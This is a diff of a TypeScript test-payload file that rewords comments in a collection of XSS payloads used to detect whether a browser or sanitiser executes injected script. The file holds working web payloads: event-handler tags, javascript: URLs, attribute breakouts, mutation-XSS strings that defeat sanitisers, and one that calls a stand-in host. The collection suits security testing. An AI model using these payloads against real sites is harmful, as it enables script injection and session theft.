@@ -1,12 +1,12 @@
 /**
- * Ways to have a script run out of a text, of our own collecting. Each one calls `alert`, or asks a host that is not
- * ours for something: a browser that obeys any of them can be caught doing so.
+ * Our own collection of XSS payloads. Each one calls `alert` or requests something from a foreign host, so a browser
+ * that obeys one is detected.
  */
 
 const CALL = "alert(1)";
 const ELSEWHERE = "//xss.invalid/x";
 
-/** Elements whose own events fire, or fire as soon as somebody touches them. */
+/** Elements whose event handlers run by themselves or on the first touch. */
 const HANDLERS = [
   ["img src=x", "onerror"],
   ["image src=x", "onerror"],
@@ -54,7 +54,7 @@ const HANDLERS = [
   ["track kind=captions", "oncuechange"],
 ] as const;
 
-/** Addresses that are programs, or lead to one. */
+/** Addresses that run code or lead to code. */
 const ADDRESSES = [
   `javascript:${CALL}`,
   `JaVaScRiPt:${CALL}`,
@@ -83,7 +83,7 @@ const ADDRESSES = [
   ELSEWHERE,
 ] as const;
 
-/** Elements that go to, load or submit to an address. */
+/** Elements that navigate to, load or submit to an address. */
 const CARRIERS: readonly ((address: string) => string)[] = [
   (address) => `<a href="${address}">x</a>`,
   (address) => `<iframe src="${address}"></iframe>`,
@@ -128,7 +128,7 @@ const SCRIPTS = [
   `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
 ] as const;
 
-/** Ways out of the place where a text stands. */
+/** Endings that break out of an attribute, a comment or an element. */
 const BREAKOUTS = [
   `"><script>${CALL}</script>`,
   `'><script>${CALL}</script>`,
@@ -165,7 +165,7 @@ const BREAKOUTS = [
   `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${CALL}"}}`,
 ] as const;
 
-/** Markup that a filter reads otherwise than a browser does. */
+/** Markup that a sanitiser parses differently from a browser. */
 const MUTATIONS = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
@@ -209,7 +209,7 @@ const MUTATIONS = [
   `<span data-type="grammar" data-type="x" onclick=${CALL}>x</span>`,
 ] as const;
 
-/** Elements that do harm without a script: other pages, other addresses, other looks. */
+/** Elements that do harm without a script: redirects, base addresses, styles. */
 const OTHERS = [
   `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
   `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
@@ -261,7 +261,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   ...OTHERS,
 ];
 
-/** The payloads joined by line ends into as few texts as fit within `most` characters each. */
+/** Joins the payloads with newlines into as few texts of at most `most` characters as possible. */
 export function packedPayloads(most: number): string[] {
   const packed: string[] = [];
   for (const payload of XSS_PAYLOADS) {
